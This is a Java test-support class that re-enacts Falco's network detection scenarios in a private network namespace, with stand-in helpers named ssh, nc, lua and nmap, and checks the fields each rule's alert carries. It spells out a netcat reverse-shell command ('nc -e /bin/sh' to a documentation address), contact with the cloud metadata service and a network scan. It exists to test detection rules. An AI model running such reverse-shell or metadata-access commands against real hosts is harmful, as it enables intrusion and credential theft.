package dev.tapio.app;

import java.io.BufferedReader;
import java.io.IOException;
import java.io.InputStreamReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.UUID;

/**
 * The event generator's network actions, re-enacted with real sockets in a network namespace of the
 * test's own: its loopback holds a documentation address (203.0.113.1/24, outside RFC 1918, so
 * Falco's {@code outbound} macro takes it as leaving the host), the generator's 10.2.3.0/24 and the
 * cloud metadata address, with servers listening where the actions connect over TCP. The names the
 * rules look for are symlinks to the network helper ({@code ssh}, {@code sha1sum}, {@code lua},
 * {@code nc}, which takes netcat's arguments) or to {@code /bin/true} ({@code nmap}). Host actions
 * run in one cgroup, container actions in a cgroup shaped like a Docker container's.
 */
final class NetworkParityActions implements AutoCloseable {
  static final String OUTSIDE = "203.0.113.1";
  static final String METADATA = "169.254.169.254";

  private final Path dir;
  private final Path helper;
  private final String netns = "tapio-evgen-" + UUID.randomUUID().toString().substring(0, 8);
  private final List<Process> servers = new ArrayList<>();

  NetworkParityActions(Path dir, Path helper) throws Exception {
    this.dir = dir;
    this.helper = helper;
    EndToEnd.run("ip", "netns", "add", netns);
    try {
      for (String address : List.of(OUTSIDE + "/24", "10.2.3.1/24", METADATA + "/32")) {
        EndToEnd.run("ip", "-n", netns, "addr", "add", address, "dev", "lo");
      }
      EndToEnd.run("ip", "-n", netns, "link", "set", "lo", "up");
      for (String name : List.of("ssh", "sha1sum", "lua", "nc")) {
        Files.createSymbolicLink(dir.resolve(name), helper);
      }
      Files.createSymbolicLink(dir.resolve("nmap"), Path.of("/bin/true"));
      serve(OUTSIDE, 443); // ssh
      serve(OUTSIDE, 22); // nc -e
      serve(METADATA, 80); // the metadata service
    } catch (Exception e) {
      close();
      throw e;
    }
  }

  /**
   * What the alert of each firing rule must carry: the process and the socket the action used.
   * Values are compared as text.
   */
  static final Map<String, Map<String, String>> EXPECTED =
      Map.ofEntries(
          Map.entry(
              "Disallowed SSH Connection Non Standard Port",
              Map.of("proc.name", "ssh", "fd.rport", "443", "fd.l4proto", "tcp")),
          Map.entry(
              "Netcat Remote Code Execution in Container",
              Map.of("proc.name", "nc", "proc.cmdline", "nc -e /bin/sh " + OUTSIDE + " 22")),
          Map.entry(
              "Redirect STDOUT/STDIN to Network Connection in Container",
              Map.of("proc.name", "nc", "fd.sip", OUTSIDE, "fd.rport", "22", "fd.type", "ipv4")),
          Map.entry(
              "System procs network activity",
              Map.of("proc.name", "sha1sum", "fd.rport", "8192", "fd.l4proto", "udp")),
          Map.entry(
              "Unexpected UDP Traffic",
              Map.of("proc.name", "nc", "fd.rport", "22", "fd.l4proto", "udp")),
          Map.entry(
              "Contact EC2 Instance Metadata Service From Container",
              Map.of("proc.name", "nc", "fd.rport", "80", "fd.l4proto", "tcp")),
          Map.entry("Launch Suspicious Network Tool in Container", Map.of("proc.name", "nmap")),
          Map.entry(
              "Interpreted procs inbound network activity",
              Map.of("proc.name", "lua", "evt.type", "listen", "fd.type", "ipv4")),
          Map.entry(
              "Interpreted procs outbound network activity",
              Map.of("proc.name", "lua", "fd.rport", "53", "fd.l4proto", "udp")));

  /** Performs every action of {@link NetworkParityTable#ROWS}, on the host or in the container. */
  void runAll(TestCgroup host, TestCgroup container) throws Exception {
    for (String action :
        NetworkParityTable.ROWS.stream().map(ParityTable.Row::action).distinct().toList()) {
      perform(host, container, action);
    }
  }

  private void perform(TestCgroup host, TestCgroup container, String action) throws Exception {
    switch (action) {
      // ssh user@example.com -p 443
      case "DisallowedSSHConnectionNonStandardPort" ->
          run(host, h("ssh"), "connect", "tcp", OUTSIDE, "443");
      // nc -e /bin/sh example.com 22, in a container
      case "NetcatRemoteCodeExecutionInContainer" ->
          run(container, h("nc"), "-e", "/bin/sh", OUTSIDE, "22");
      // socket(AF_PACKET, SOCK_RAW, ETH_P_ALL), in a container
      case "PacketSocketCreatedInContainer" -> run(container, helper.toString(), "packet");
      // the NetworkActivity helper run as sha1sum: a UDP "dial" of 10.2.3.4:8192
      case "SystemProcsNetworkActivity" ->
          run(host, h("sha1sum"), "connect", "udp", "10.2.3.4", "8192");
      // nc -u example.com 22
      case "UnexpectedUDPTraffic" -> run(host, h("nc"), "-u", OUTSIDE, "22");
      // nc 169.254.169.254 80, in a container
      case "ContactEC2InstanceMetadataServiceFromContainer" ->
          run(container, h("nc"), METADATA, "80");
      // nmap -sn 192.168.1.0/24, in a container
      case "LaunchSuspiciousNetworkToolInContainer" ->
          run(container, h("nmap"), "-sn", "192.168.1.0/24");
      // the InboundConnection helper run as lua: listen on a non-loopback address
      case "InterpretedProcsInboundNetworkActivity" -> run(host, h("lua"), "listen", OUTSIDE);
      // the OutboundConnection helper run as lua: a UDP "dial" of example.net:53
      case "InterpretedProcsOutboundNetworkActivity" ->
          run(host, h("lua"), "connect", "udp", "203.0.113.7", "53");
      default -> throw new IllegalArgumentException("no re-enactment of " + action);
    }
  }

  private String h(String name) {
    return dir.resolve(name).toString();
  }

  /** A helper listening on {@code address:port} in the namespace, outside the test's cgroups. */
  private void serve(String address, int port) throws IOException {
    Process server =
        new ProcessBuilder(
                "ip", "netns", "exec", netns, helper.toString(), "serve", address, "" + port)
            .redirectError(ProcessBuilder.Redirect.DISCARD)
            .start();
    servers.add(server);
    var lines =
        new BufferedReader(new InputStreamReader(server.getInputStream(), StandardCharsets.UTF_8));
    if (!"ready".equals(lines.readLine())) {
      throw new IOException("the server on " + address + ":" + port + " did not start");
    }
  }

  /**
   * Runs {@code command} in the cgroup and the namespace to its end; its status does not matter.
   */
  private void run(TestCgroup c, String... command) throws Exception {
    List<String> all = new ArrayList<>(List.of("nsenter", "--net=/run/netns/" + netns));
    all.addAll(List.of(command));
    Process p =
        new ProcessBuilder(c.wrap(all.toArray(String[]::new))).redirectErrorStream(true).start();
    String out = new String(p.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
    int status = p.waitFor();
    if (status != 0) {
      System.err.println(
          "network parity: " + String.join(" ", command) + " exited " + status + ": " + out);
    }
  }

  @Override
  public void close() throws Exception {
    for (Process p : servers) {
      p.destroyForcibly();
      p.waitFor();
    }
    Process del = new ProcessBuilder("ip", "netns", "del", netns).redirectErrorStream(true).start();
    del.getInputStream().readAllBytes();
    del.waitFor();
  }
}
